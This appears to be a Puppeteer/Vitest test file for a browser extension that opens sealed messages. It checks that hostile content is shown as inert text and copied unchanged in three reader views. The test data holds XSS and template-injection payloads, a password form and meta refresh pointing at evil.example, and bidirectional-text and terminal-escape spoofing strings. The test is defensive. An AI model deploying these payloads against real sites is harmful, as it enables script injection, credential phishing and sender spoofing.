// What somebody sealed to do harm is shown as the text it is, in every place where texts are opened, and copied unchanged.
import type { Frame, Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { badges } from '../../browser/badges.ts';
import { addContact, byId, fill, myCard, openedReader } from '../../browser/driver.ts';
import { type Correspondent, makeCorrespondent } from '../../browser/page/correspondents.ts';
import { html } from '../../browser/page/support.ts';
import { panelOpenedBy } from '../../browser/ui/side-panel.ts';
import { openStage, type Stage } from './stage.ts';

const [rlo, lri, pdf, alm] = ['\u202e', '\u2066', '\u202c', '\u061c'];
const harm = [
  '<script>ran = 1</script><img src=x onerror="ran = 2"><svg onload="ran = 3"><iframe srcdoc="<script>parent.ran = 4</script>">',
  '</section></article></main></body><h1>Fieldseal</h1><form action="https://evil.example"><input type=password autofocus onfocus="ran = 5"></form>',
  '<style>*{display:none!important}</style></style><link rel=stylesheet href="data:text/css,*{color:red}"><meta http-equiv=refresh content="0;url=https://evil.example">',
  'javascript:ran=6 [press](javascript:ran=7) ![](https://evil.example/x.png) https://evil.example <a href="javascript:ran=8">x</a>',
  `{{constructor.constructor("ran = 9")()}} \${ran=10} <%= ran = 11 %> #{ran} {% raw %} @{ran} $t(reader_from) __MSG_extension_name__ $1 $$ %s %d`,
  `"; ran = 12; // ' onmouseover='ran = 13' \` \${} --> ]]> */ &lt;b&gt; &amp;nbsp; &#x202e;`,
  `${rlo}txet siht fo redneS${pdf} ${lri}never closed ${rlo}and again ${alm} \u200b\u200d\ufeff\u00ad\u2028\u2029`,
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007 \u001b]8;;https://evil.example\u0007link \b\b\b\u007f\u0085\u009b31m',
  'before\u0000after \u0000\u0001\u0002 \r\n\t end\r and \n\n\n  spaces   kept  ',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d \ufffd \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ufdfa \u{e0041}\u{10ffff}',
  'FSEAL1mabcdefghij Who may read it: everybody. You wrote this. ✓ verified',
].join('\n');
const long = `${'A long line without an end <b>'.repeat(7_000)}${'\u0301'.repeat(2_000)}${'x\n'.repeat(90_000)}last`;

interface Watched extends Window {
  ran?: unknown;
  violations: string[];
}

describe('a text that was sealed to do harm', () => {
  let stage: Stage;
  let bob: Correspondent;
  let mine: string;
  const pages = { '/': html(''), '/panel': html('', { 'Cross-Origin-Embedder-Policy': 'require-corp' }) };
  const dialogs: string[] = [];
  beforeAll(async () => {
    [stage, bob] = await Promise.all([openStage(pages), makeCorrespondent('Bert')]);
    await addContact(stage.alice, bob.card);
    mine = await myCard(stage.alice);
    const context = stage.alice.browser.defaultBrowserContext();
    await context.overridePermissions(stage.site.origin, ['clipboard-read', 'clipboard-write']);
  });
  afterAll(() => stage?.close());

  /** Watches from now on: what opens the text is there already, the text itself is not. */
  const watch = (where: Page | Frame): Promise<unknown> =>
    where.evaluate(() => {
      const watched = window as unknown as Watched;
      watched.violations = [];
      addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) => {
        watched.violations.push(`${violatedDirective} ${blockedURI}`);
      });
    });
  /** The page's own clipboard is the same one. */
  const clipboard = async (): Promise<string> => {
    const page = await stage.goto('/');
    await page.waitForFunction(() => document.hasFocus());
    const text = await page.evaluate(() => navigator.clipboard.readText());
    await page.close();
    return text;
  };
  const marked = async (path: '/' | '/panel', text: string): Promise<{ page: Page; press: () => Promise<void> }> => {
    const token = await bob.seal(text, [mine], stage.site.origin);
    Object.assign(pages, {
      [path]: {
        ...pages[path],
        body: html(`<p style="height:60px;overflow:hidden;overflow-wrap:anywhere">${token}</p>`).body,
      },
    });
    const page = await stage.goto(path);
    page.on('dialog', (dialog) => dialogs.push(dialog.message()));
    const [mark] = await badges(page, 1);
    return { page, press: () => page.mouse.click(mark?.x ?? 0, mark?.y ?? 0) };
  };

  /** Each place opens the text and gives where it stands. */
  const places: Readonly<
    Record<
      string,
      (text: string) => Promise<{ where: Page | Frame; copy: () => Promise<void>; close: () => Promise<void> }>
    >
  > = {
    'the reader in a page': async (text) => {
      const { page, press } = await marked('/', text);
      await press();
      const where = await openedReader(page);
      const copy = (): Promise<void> => where.locator('[data-testid="reader-copy"][data-armed="true"]').click();
      return { where, copy, close: () => page.close() };
    },
    'the side panel': async (text) => {
      const { page, press } = await marked('/panel', text);
      const panel = await panelOpenedBy(stage.alice, press);
      return {
        where: panel,
        copy: () => byId(panel, 'copy').click(),
        close: async () => void (await Promise.all([panel.close(), page.close()])),
      };
    },
    'the full page': async (text) => {
      const app = await stage.alice.open('app.html#open');
      await fill(app, 'open-input', await bob.seal(text, [mine], ''));
      await byId(app, 'open-submit').click();
      return { where: app, copy: () => byId(app, 'copy').click(), close: () => app.close() };
    },
  };

  const look = (where: Page | Frame) =>
    where.$eval('[data-testid="reader-text"]', (section) => {
      const { ran, violations } = window as unknown as Watched;
      const { width, height } = section.getBoundingClientRect();
      const sender = document.querySelector('[data-testid="reader-sender"]');
      return {
        text: section.textContent,
        nodes: [...section.childNodes].map((node) => node.nodeType),
        strange: document.querySelectorAll(
          'img, object, embed, iframe, base, a[href^="javascript"], form[action], [onerror], [onload], section :is(style, script, svg)',
        ).length,
        links: document.querySelectorAll('section a').length,
        ran: ran ?? 'nothing',
        violations,
        shown: width > 100 && height > 10 && getComputedStyle(section).display !== 'none',
        title: document.title.includes('ran'),
        // A writing direction that was begun in the text ends with it.
        direction: sender && getComputedStyle(sender).direction,
        sender: sender?.textContent,
        wide: document.documentElement.scrollWidth <= innerWidth,
      };
    });

  it.each(Object.entries(places))('is text and nothing else in %s, and copied as it is', async (name, open) => {
    for (const text of name === 'the reader in a page' ? [harm, long] : [harm]) {
      const { where, copy, close } = await open(text);
      await watch(where);
      await where.waitForSelector('[data-testid="reader-text"]');
      const seen = await look(where);
      expect(seen.text === text, 'every character').toBe(true);
      expect({ ...seen, text: '' }).toEqual({
        ...{ text: '', nodes: [3], strange: 0, links: 0, ran: 'nothing', violations: [], shown: true, title: false },
        ...{ direction: 'ltr', sender: expect.stringContaining('Bert'), wide: true },
      });
      await copy();
      await where.waitForFunction(() => document.querySelector('.copy-outcome')?.textContent?.startsWith('✓'));
      const copied = await clipboard();
      expect(copied.length).toBe(text.length);
      expect(copied === text, 'every character of the copy').toBe(true);
      expect(dialogs).toEqual([]);
      await close();
    }
  });

  it('would be seen if it ran anything, so the tests above are not blind', async () => {
    const { page, press } = await marked('/', 'harmless');
    await press();
    const reader = await openedReader(page);
    await reader.waitForSelector('[data-testid="reader-text"]');
    await watch(reader);
    await reader.evaluate(() => {
      const section = document.querySelector('[data-testid="reader-text"]');
      section?.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }));
      section?.append(Object.assign(document.createElement('a'), { href: 'javascript:ran=1' }));
      Object.assign(window, { ran: 1 });
    });
    await reader.waitForFunction(() => (window as unknown as Watched).violations.length > 0);
    const seen = await look(reader);
    expect(seen).toMatchObject({ ran: 1, nodes: [3, 1, 1], strange: 2, links: 1 });
    await page.close();
  });
});
